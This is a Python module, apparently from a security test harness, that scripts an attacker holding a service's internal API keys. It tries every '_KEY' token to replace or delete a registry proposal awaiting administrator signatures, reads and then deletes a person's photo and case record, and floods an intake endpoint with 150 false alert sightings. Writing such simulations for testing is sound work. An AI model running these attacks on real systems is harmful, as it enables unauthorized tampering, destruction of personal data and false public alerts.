"""Whoever has the whole environment of what faces the internet, and with it keys of calls between services."""

from uuid import uuid4

import aiohttp

from attack.attackers.trade import LIE, Attacker

MANY_SIGHTINGS = 150


async def propose(attacker: Attacker) -> None:
    """A registry of one's own for administrators to sign, in the place of what waits for their signatures; or at least
    nothing that waits any more. By whichever key opens that."""
    async with aiohttp.ClientSession(attacker.knows["broadcast_url"]) as http:
        for name, key in attacker.holds.items():
            if name.endswith("_KEY"):
                await _try(attacker, http, {"Authorization": f"Bearer {key}"})


async def _try(attacker: Attacker, http: aiohttp.ClientSession, headers: dict[str, str]) -> None:
    asked = {"params": {"by": "quantri1"}, "data": attacker.knows["registry"].encode()}
    async with http.put("/api/v1/lists/groups/proposal", headers=headers, **asked) as answer:
        if await attacker.takes(answer):
            return
    async with http.delete("/api/v1/lists/groups/proposal", headers=headers) as answer:
        await attacker.takes(answer)


async def take_people(attacker: Attacker) -> None:
    """Somebody's photo and case: read, and then gone."""
    photo, case = f"/internal/photos/{attacker.knows['photo']}", f"/internal/cases/{attacker.knows['case_id']}"
    async with _intake(attacker) as http:
        for method, path in (("GET", photo), ("DELETE", photo), ("DELETE", case), ("GET", "/api/v1/reports")):
            async with http.request(method, path) as answer:
                await attacker.takes(answer)


async def flood(attacker: Attacker) -> None:
    """As many sightings of one alert as are taken."""
    async with _intake(attacker) as http:
        for _ in range(MANY_SIGHTINGS):
            told = {"code": attacker.knows["on_air"], "sent_as": str(uuid4()), "said": LIE}
            async with http.post("/internal/sightings", data=told) as answer:
                await attacker.takes(answer)


def _intake(attacker: Attacker) -> aiohttp.ClientSession:
    headers = {"Authorization": f"Bearer {attacker.holds['PUBLIC_TO_INTAKE_KEY']}"}
    return aiohttp.ClientSession(attacker.knows["intake_url"], headers=headers)
